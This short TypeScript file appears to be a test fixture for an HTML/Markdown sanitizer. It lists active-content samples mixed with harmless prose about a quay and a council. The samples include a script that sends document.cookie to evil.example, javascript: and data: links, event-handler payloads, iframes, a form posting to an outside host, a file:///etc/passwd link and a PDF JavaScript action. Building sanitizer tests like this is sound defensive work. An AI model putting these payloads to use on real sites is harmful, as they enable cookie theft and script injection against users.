/** What tries to bring code, forms, frames and addresses into a copy of an article: parts of HTML or Markdown. */
export const activeParts = [
  "<script>fetch('https://evil.example/' + document.cookie)</script>",
  `<p onclick="alert(1)" style="background:url(https://evil.example/x)">The clerk read the figures aloud, and nobody in the hall said a word for some time.</p>`,
  `<p><a href="javascript:alert(1)">A baker on the quay had counted the passengers of each crossing since the spring.</a> <a href="data:text/html,x">x</a> <a href=" java\tscript:alert(1)">y</a></p>`,
  `<p><a href="file:///etc/passwd">Her son wrote the numbers on the back of old tickets, and the council asked to see them.</a> <a href="https://tide.example/a?b=1&amp;c">the tide</a></p>`,
  '<p><img src="https://evil.example/pixel.png" onerror="alert(1)" alt="A boat at the quay"></p>',
  '<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example/"><p><input name="a"></p></form><svg onload="alert(1)"><a href="javascript:x">z</a></svg>',
  `<p>&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt; {{constructor}} Two of the pilots had left by then, and their places were not filled before the winter.</p>`,
  `<blockquote>&lt;/style&gt;&lt;link rel=stylesheet href=//evil.example&gt; The clerk read the figures aloud, and nobody in the hall said a word for some time.</blockquote>`,
  "<p>/OpenAction &lt;&lt; /S /JavaScript /JS (app.alert\\(1\\)) &gt;&gt; endobj stream</p>",
];
